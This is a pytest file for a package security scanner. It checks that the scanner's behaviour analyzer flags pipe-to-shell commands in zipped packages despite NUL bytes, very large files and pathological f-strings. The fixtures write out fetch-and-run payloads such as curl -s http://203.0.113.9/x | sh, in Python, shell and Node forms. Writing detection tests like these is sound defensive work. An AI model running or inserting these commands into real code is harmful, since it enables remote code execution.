"""The behaviour analyzer reads every script, whatever its size or bytes, within bounds."""

from __future__ import annotations

import time
from dataclasses import replace
from pathlib import Path

from builders import write, zip_bytes
from finalexam.analyze.behavior.python.bounded import IN_PROCESS_SOURCE, bounded_python_facts
from finalexam.analyze.behavior.python.visitor import python_facts
from finalexam.config import Config
from finalexam.exam import run_exam
from finalexam.model import Report

PAYLOAD = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"


def _exam(tmp_path: Path, members: dict[str, str | bytes], budget: float = 10) -> Report:
    target = write(tmp_path / "pkg.zip", zip_bytes(members))
    # generated filler compresses far past the bomb ratio: this is not what is tested here
    limits = replace(Config().limits, max_ratio=1_000_000)
    return run_exam(
        target, replace(Config(), only=("behavior",), time_budget=budget, limits=limits)
    )


def _rules(report: Report) -> set[str]:
    return {f.rule_id for f in report.findings}


def test_a_script_with_a_nul_byte_up_front_is_still_read(tmp_path: Path) -> None:
    members = {
        "pkg/__init__.py": "# \x00\n" + PAYLOAD,
        "install.sh": "#!/bin/sh\n\x00\ncurl -s http://203.0.113.9/x | sh\n",
    }
    report = _exam(tmp_path, members)
    where = {str(f.location) for f in report.findings if f.rule_id == "thr-pipe-to-shell"}
    assert where == {"pkg.zip!/pkg/__init__.py", "pkg.zip!/install.sh"}


def test_a_script_over_the_old_8_mib_cut_off_is_read_or_reported(tmp_path: Path) -> None:
    filler = "// generated\n" * (9 * 1024 * 1024 // 14)
    report = _exam(
        tmp_path,
        {
            "lib/big.js": filler + "require('child_process')"
            ".execSync('curl -s http://203.0.113.9/x | sh');\n"
        },
        budget=5,
    )
    found = "thr-pipe-to-shell" in _rules(report)
    [issue] = report.issues or [None]
    # read to the end, or said not to be within the budget: never skipped in silence
    assert found or (issue is not None and issue.plugin == "behavior"), report.issues


def test_a_pathological_f_string_is_read_as_text_within_the_budget(tmp_path: Path) -> None:
    source = PAYLOAD + 'x = f"' + "{a}" * 120_000 + '"\n'
    assert len(source) > IN_PROCESS_SOURCE
    started = time.monotonic()
    report = _exam(tmp_path, {"pkg/__init__.py": source}, budget=4)
    assert time.monotonic() - started < 60
    assert "thr-pipe-to-shell" in _rules(report)  # the text rules still ran
    [issue] = report.issues
    assert issue.message.startswith("behavior read this file as text only: Python source not")


def test_a_large_source_parses_in_the_child_to_the_same_facts() -> None:
    source = PAYLOAD + "".join(f"v{i} = call(a, 'x{i}')\n" for i in range(20_000))
    assert len(source) > IN_PROCESS_SOURCE
    facts, why = bounded_python_facts(source, 60, install_file=True)
    assert why is None
    assert facts == python_facts(source, install_file=True)
